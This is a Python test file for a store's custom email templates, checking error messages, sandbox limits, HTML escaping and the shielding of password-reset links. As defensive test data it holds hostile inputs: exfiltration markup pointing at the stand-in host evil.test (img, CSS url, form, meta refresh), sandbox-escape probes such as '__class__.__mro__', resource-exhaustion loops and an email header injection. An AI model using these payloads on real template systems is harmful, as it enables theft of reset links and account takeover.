"""A store's own words: every mistake is named, strangers' templates can do no harm, and a reset link stays with its person."""

from typing import Any

import pytest

from tests.support.html import HtmlPage
from tradepost.domain.email_templates import TemplateText
from tradepost.domain.errors import InvalidError
from tradepost.domain.orders import MAX_LINES
from tradepost.mails.checking import check
from tradepost.mails.rendering import BrokenTemplateError, default_text, own_part, render_mail
from tradepost.mails.sandbox import MAX_MISTAKES
from tradepost.mails.values import TEMPLATES, sample_values

WHOLE = 64 * 1024


def own(**parts: str) -> TemplateText:
    return TemplateText(**{"subject": "Hello", "html": "<p>Hello</p>", "text": "Hello", **parts})


def faults(name: str = "invitation", **parts: str) -> list[tuple[str, str]]:
    """Return what is wrong with a template, by the part and in words."""
    try:
        check(name, own(**parts))
    except InvalidError as error:
        assert error.code == "template_invalid"
        return [(fault.pointer, fault.message) for fault in error.faults]
    return []


def told(html: str, name: str = "invitation") -> str:
    """Return all that is wrong with a template's HTML."""
    return "; ".join(message for _, message in faults(name, html=html))


def full(pattern: str) -> str:
    """Return a pattern as often as a template holds it."""
    return pattern * (WHOLE // len(pattern))


@pytest.mark.parametrize(("name", "about"), [("order_placed", "order"), ("offer_sent", "offer"), ("invoice_issued", "invoice")])
def test_own_words_may_tell_of_as_many_lines_as_there_can_be(name: str, about: str) -> None:
    values = sample_values(name)
    line = values[about]["lines"][0]
    long = {**values, about: {**values[about], "lines": [line] * MAX_LINES}}
    own, said = default_text(name), line.get("name") or line["text"]
    for part, source in (("html", own.html), ("text", own.text)):
        assert own_part(name, part, source, long).count(said) >= MAX_LINES


@pytest.mark.parametrize("name", TEMPLATES)
def test_the_default_can_be_taken_as_a_stores_own_words_and_says_the_same(name: str) -> None:
    text = default_text(name)
    check(name, text)
    values = sample_values(name)
    ours, theirs = render_mail(name, values), render_mail(name, values, text)
    assert (theirs.subject, theirs.text) == (ours.subject, ours.text)
    assert HtmlPage(theirs.html).heading == HtmlPage(ours.html).heading
    assert [link["href"] for link in HtmlPage(theirs.html).all("a")] == [link["href"] for link in HtmlPage(ours.html).all("a")]


def test_own_words_stand_in_the_stores_brand() -> None:
    written = render_mail(
        "invitation", sample_values("invitation"), own(html="<p>Join {{ company }}</p>", text="Join {{ company }}")
    )
    page = HtmlPage(written.html)
    assert "Join Corner Café Ltd" in page.text
    assert [image["src"] for image in page.all("img")] == ["https://cdn.example.com/logo.png"]
    assert "Sent by Tradepost for Lumen Trading" in page.text
    assert "Sent by Tradepost for Lumen Trading" in written.text
    assert page.all("p")[0]["style"]


@pytest.mark.parametrize(
    ("html", "message"),
    [
        ("a\nb\n{{ store.nmae }}", "line 3: there is no variable `store.nmae`; did you mean `store.name`?"),
        ("{{ compnay }}", "line 1: there is no variable `compnay`; did you mean `company`?"),
        ("\n{{ shipment.carrier }}", "line 2: there is no variable `shipment.carrier`"),
        ("{% if store.logo_url == 'x' %}\n{{ nobody }}{% endif %}", "line 2: there is no variable `nobody`"),
        ("{% if nobody %}x{% endif %}y", "line 1: there is no variable `nobody`"),
        ("{{ name | append: nobody }}", "line 1: there is no variable `nobody`"),
        ("{{ store[nobody] }}", "line 1: there is no variable `nobody`"),
        ("{{ name.first_letter }}", "line 1: there is no variable `name.first_letter`"),
        ("{{ later }}{% assign later = 1 %}", "line 1: there is no variable `later`"),
        ("{{ look.fill }}", "line 1: there is no variable `look.fill`"),
        ("{{ now }}", "line 1: there is no variable `now`"),
        ("\n{{ name | shout }}", "line 2: there is no filter `shout`"),
        ("{{ name | upcse }}", "line 1: there is no filter `upcse`; did you mean `upcase`?"),
        ("{% if link == 'x' %}{{ name | shout }}{% endif %}y", "line 1: there is no filter `shout`"),
        ("\n\n{% iff name %}", "line 3: there is no tag `iff`"),
        ("{% if name %}\n{% endfor %}{% endif %}y", "line 2: `endfor` stands alone"),
        ("\n{% if name %}x", "line 2: `if` is not ended by `endif`"),
        ("x\n{{ name", "line 2: `{{` is not closed by `}}` within 500 characters"),
        ("{{ name | }}", "line 1: expected word, found the end"),
        ("\n{% assign x %}", "line 2: expected '=', found the end"),
        ("{% %}", "line 1: a tag has no name"),
        ("{{ store }}", "line 1: `store` is no text; write `store.name`, for example"),
        ("{% render 'button', to: link %}", "line 1: `render 'button'` wants `label`"),
        (
            "{% render 'layout' %}",
            "line 1: there is no part `layout`: `render` takes `button`, `event`, `invoice`, `offer`, `order`",
        ),
        ("\n{{ name | append }}", "line 2: `append` does not take this"),
        ("{% if link == 'x' %}{% assign found = 1 %}{% endif %}\n{{ found }}", "line 2: 'found' is undefined"),
        ("{% if name %}{% endif %}", "says nothing"),
    ],
)
def test_a_mistake_is_told_with_its_line_and_what_was_meant(html: str, message: str) -> None:
    assert faults(html=html) == [("/html", message)]


def test_every_mistake_is_a_fault_of_its_own() -> None:
    found = faults(
        subject="{{ nmae }}",
        html="{{ nobody }}\n{% include 'x' %}\n{{ name | shout }}\n{{ a b }}\n{% if %}{% endif %}",
        text="fine\n{{ store.nmae }}",
    )
    assert [(pointer, message.partition(":")[0]) for pointer, message in found] == [
        ("/subject", "line 1"),
        ("/html", "line 1"),
        ("/html", "line 2"),
        ("/html", "line 3"),
        ("/html", "line 4"),
        ("/html", "line 5"),
        ("/text", "line 2"),
    ]
    assert len(faults(html="\n".join("{{ nobody }}" for _ in range(500)))) == MAX_MISTAKES


def test_a_variable_of_one_mail_is_unknown_to_another() -> None:
    assert faults("welcome", html="{{ link }}") == [("/html", "line 1: there is no variable `link`")]
    assert faults("order_placed", html="{{ order.number }}") == []


@pytest.mark.parametrize(
    "html",
    [
        "{% for line in order.lines %}{{ line.name }} {{ forloop.index }}{% endfor %}",
        "{% for line in order.lines reversed limit: 1 %}{{ line.total }}{% else %}none{% endfor %}",
        "{% assign first = order.lines.first %}{{ first.name }} {{ order.lines[0].total }} {{ order.lines.size }}",
        "{% capture greeting %}Hello {{ name }}{% endcapture %}{{ greeting | upcase }}",
        "{% if order.tax %}{{ order.tax }}{% else %}no tax{% endif %}",
        "{% unless order.note %}x{% endunless %}{{ order.note }}{{ order.note | default: 'none' | truncate: 5 }}y",
        "{% case company %}{% when 'A', 'B' %}x{% else %}y{% endcase %}",
        "{{ order.billing_address | join: ', ' }}",
        "{% for number in (1..10) %}{% if number == 3 %}{% break %}{% endif %}{{ number }}{% endfor %}",
        "{% comment %} {{ nobody }} {% endcomment %}{% # {{ nobody %}x",
        "{% raw %}{{ nobody }} {{{% endraw %}",
        "{%- if login_url -%}{% render 'button', to: login_url, label: 'Go' %}{%- endif -%}x",
        "{% render 'order', order: order %}",
        "{{ name | replace: 'a', 'b' | remove: 'c' | prepend: '>' | newline_to_br }}",
        "<style>p { color: red }</style><a href='{{ login_url }}'>x</a>",
    ],
)
def test_what_mails_need_can_be_said(html: str) -> None:
    assert faults("order_placed", html=html, text=html, subject="{{ order.number }}") == []


@pytest.mark.parametrize(
    ("html", "message"),
    [
        ("{% for line in order.lines %}{{ line.nmae }}{% endfor %}", "`line.nmae`; did you mean `line.name`?"),
        ("{% if order.tax == 'x' %}{% for line in order.lines %}{{ line.x }}{% endfor %}{% endif %}y", "`line.x`"),
        ("{% for line in order.lines %}{{ line }}{% endfor %}", "`line` is no text"),
        ("{% for line in order.lines %}x{% endfor %}{{ line.name }}", "`line.name`"),
        ("{% assign one = order.lines.first %}{{ one.nmae }}", "`one.nmae`"),
        ("{{ order.lines }}", "`order.lines` is no text"),
        ("{{ order.lines[0].nmae }}", "`order.lines[0].nmae`"),
    ],
)
def test_what_stands_behind_a_name_of_its_own_is_followed(html: str, message: str) -> None:
    assert message in told(html, "order_placed")


def test_what_may_be_missing_must_not_be_relied_on() -> None:
    assert faults(html="{% if name %}{{ name | upcase }}{% endif %}!") == []
    assert "says nothing" in told("{{ name }}")
    assert faults(subject="{{ name }}") == [("/subject", "says nothing")]


@pytest.mark.parametrize(
    "html",
    [
        "{{ (1..100000000) | join: ',' }}",
        "{% for i in (1..100000000) %}x{% endfor %}",
        "{% for i in (1..1000000000) limit: 1 offset: 999999999 %}x{% endfor %}",
        "{% for i in (1..100000000) reversed %}x{% endfor %}",
        "{% assign most = 100000000 %}{% for i in (1..most) %}x{% endfor %}",
        "{% if (1..1000000000) contains 'x' %}x{% endif %}",
        "{% if store['a'b'] or (1..9999999999) contains store['c'd'] %}x{% endif %}",
        "{% for i in ((1..2)..99999999) %}x{% endfor %}",
        "{% for i in ('1'..'99999999') %}x{% endfor %}",
        "{% for i in (-99999999..99) %}x{% endfor %}",
    ],
)
def test_a_range_out_of_all_measure_is_refused(html: str) -> None:
    assert "a range goes from one written number to another" in told(html)


@pytest.mark.parametrize(
    ("html", "message"),
    [
        ("{% for a in (1..999) %}{% for b in (1..999) %}{% endfor %}{% endfor %}", "loop iteration limit reached"),
        ("{% for a in (1..999) %}" + "x" * 60_000 + "{% endfor %}", "output stream limit reached"),
        ("{% assign x = 'xxxxxxxxxx' %}" + "{% assign x = x | append: x %}" * 40, "a text becomes longer"),
        (
            "{% assign x = 'xxxxxxxxxx' %}" + "{% capture x %}{{ x }}{{ x }}{% endcapture %}" * 40,
            "local namespace limit reached",
        ),
        ("{{ 'x'" + " | replace: 'x', 'xxxxxxxxxxxxxxxx'" * 12 + " }}", "a text becomes longer"),
        ("{% capture x %}" + "x" * 9_000 + "{% endcapture %}{{ x | replace: '', x }}", "a text becomes longer"),
        ("{% capture x %}" + "x" * 9_000 + "{% endcapture %}{{ (1..999) | join: x }}", "a text becomes longer"),
        ("{% if true %}" * 900 + "{% endif %}" * 900, "block nesting limit reached"),
        ("{% for a in (1..999) %}{% if a == 0 %}{% endif %}{% endfor %}" * 400, "it has too much to do"),
        ("{% for a in (1..999) %}" + "{{ store.name | upcase }}" * 1_900 + "{% endfor %}", "it has too much to do"),
        ("{% for a in (1..999) %}{% render 'button', to: a, label: 'x' %}{% endfor %}", "output stream limit reached"),
        ("{{ '" + "x" * 600 + "' }}", "is not closed by `}}` within 500 characters"),
        ("{{ name" + " " * 450 + "}}", "a gap of 100 blanks"),
        (full("{{"), "is not closed"),
        (full("{{ name }}"), "here are more than 2000 tags"),
        (full("{% raw %}"), "is not closed by `{% endraw %}`"),
        (full("{% doc %}"), "there is no tag `doc`"),
        ("{% comment %}" * 900, "comment tag was never closed"),
        (full("{{ " + "a[" * 150 + "b" + "]" * 150 + " }}"), "there is no variable"),
        ("{{ 9 | times: 9 }}", "there is no filter `times`"),
        ("{{ name | split: '' }}", "there is no filter `split`"),
        ("{{ name | safe }}", "there is no filter `safe`"),
        ("{{ 'now' | date: '%s' }}", "there is no filter `date`"),
        ("{{ name.__class__.__mro__ }}", "there is no variable `name.__class__.__mro__`"),
        ("{{ store['__class__'] }}", "there is no variable `store.__class__`"),
        ("{% include 'welcome' %}", "there is no tag `include`"),
        ("{% extends 'layout' %}", "there is no tag `extends`"),
        ("{% render 'welcome' %}", "there is no part `welcome`"),
        ("{% render name %}", "there is no part `name`"),
        ("{% render 'button' with link as to, label: 'x', to: link %}", "`render` takes neither"),
        ("{% liquid\n assign x = 1 %}", "there is no tag `liquid`"),
        ("{% increment x %}", "there is no tag `increment`"),
    ],
)
def test_a_stranger_can_neither_run_code_nor_go_on_for_long_nor_read_other_data(html: str, message: str) -> None:
    reasons = told(html)
    assert any(each in reasons for each in message.split(" | "))
    with pytest.raises(BrokenTemplateError):
        render_mail("invitation", sample_values("invitation"), own(html=html))


def test_a_subject_stays_short_and_in_one_line() -> None:
    assert "becomes longer than 900 characters" in str(faults(subject="{% for i in (1..400) %}{{ i }} {% endfor %}"))
    values = sample_values("invitation") | {"company": "Acme\r\nBcc: all@acme.test"}
    assert render_mail("invitation", values, own(subject="{{ company }}")).subject == "Acme Bcc: all@acme.test"


def test_html_is_escaped_but_for_what_the_store_wrote() -> None:
    values: dict[str, Any] = sample_values("invitation") | {"company": "<script>x</script>"}
    html = "{{ company }}{{ company | append: '<i>' }}{% capture c %}{{ company }}{% endcapture %}<b>{{ c | upcase }}</b>"
    written = render_mail("invitation", values, own(html=html, text="{{ company }}"))
    assert "<script" not in written.html.lower()
    assert "<b>" in written.html
    assert "<script>x</script>" in written.text


# One password opens all of a person's stores.


RESET = {"html": "<p>Hello {{ name }}</p>", "text": "Hello {{ name }}", "subject": "Your password at {{ store.name }}"}


def test_a_stores_words_come_before_the_reset_link_that_is_ours() -> None:
    check("password_reset", own(**RESET))
    written = render_mail("password_reset", sample_values("password_reset"), own(**RESET))
    link = sample_values("password_reset")["link"]
    assert written.subject == "Your password at Lumen Trading"
    for part in (written.html, written.text):
        assert part.index("Hello Ida Holm") < part.index(link)
    (button,) = [each for each in HtmlPage(written.html).all("a") if each["class"] == "button"]
    assert button["href"] == link
    assert "The link works once" in written.text


@pytest.mark.parametrize("part", ["subject", "html", "text"])
def test_no_store_gets_hold_of_a_reset_link(part: str) -> None:
    assert faults("password_reset", **{part: "{{ link }}"}) == [(f"/{part}", "line 1: there is no variable `link`")]
    with pytest.raises(BrokenTemplateError):
        render_mail("password_reset", sample_values("password_reset"), own(**{part: "{{ link }}"}))


@pytest.mark.parametrize(
    "html",
    [
        "<img src='https://evil.test/?",
        '<img src="https://evil.test/">',
        "<p onclick='x'>",
        '<p style="background:url(https://evil.test)">',
        "<style>a[href*=tp]{background:url(https://evil.test)}</style>",
        "<link rel=stylesheet href=https://evil.test>",
        "<a href='https://evil.test/?x=",
        "<form action=https://evil.test><textarea name=x>",
        "<base href=https://evil.test>",
        "<meta http-equiv=refresh content=0;https://evil.test>",
        "<!--",
        "<svg>",
        "<P CLASS=x>",
        '<p class="small" id="x">',
        "<{{ 'img src=https://evil.test/?' }}",
        "{{ '<img src=https://evil.test/?' }}",
        "{% if email == 'x' %}<img src='https://evil.test/?{% endif %}",
        "{% render 'button', to: 'https://evil.test', label: 'x' %}",
        "{% assign open = '<' %}{{ open }}img src='https://evil.test/?",
        "{% raw %}<img src='{% endraw %}",
    ],
)
def test_nothing_in_front_of_a_reset_link_can_carry_it_away(html: str) -> None:
    assert "only plain tags without attributes" in told(html, "password_reset")


def test_what_the_samples_do_not_show_is_found_when_the_mail_is_written() -> None:
    html = "{% assign tag = '<' %}{% if email == 'ida@bluedoor.test' %}{{ tag }}img src='https://evil.test/?{% endif %}x"
    assert faults("password_reset", html=html) == []
    with pytest.raises(BrokenTemplateError, match="only plain tags"):
        render_mail("password_reset", sample_values("password_reset") | {"email": "ida@bluedoor.test"}, own(html=html))


def test_plain_tags_and_hostile_names_are_fine_in_front_of_a_reset_link() -> None:
    html = '<h1>Hello</h1><p class="small">{{ name }}<br/><strong>{{ store.name }}</strong></p><ul><li>x</li></ul>'
    check("password_reset", own(html=html))
    written = render_mail("password_reset", sample_values("password_reset") | {"name": "<img src='x"}, own(html=html))
    assert "<img src='x" not in written.html


def test_a_mail_shows_the_way_there_even_if_the_stores_own_words_leave_it_out() -> None:
    values = sample_values("invitation")
    own = TemplateText(subject="Hello", html="<p>nothing</p>", text="nothing")
    mail = render_mail("invitation", values, own)
    assert (mail.html.count(f'href="{values["link"]}"'), mail.text.count(values["link"])) == (1, 1)
    said = TemplateText(subject="Hello", html='<p><a href="{{ link }}">Go</a></p>', text="Go to {{ link }}")
    mail = render_mail("invitation", values, said)
    assert (mail.html.count(values["link"]), mail.text.count(values["link"])) == (1, 1)
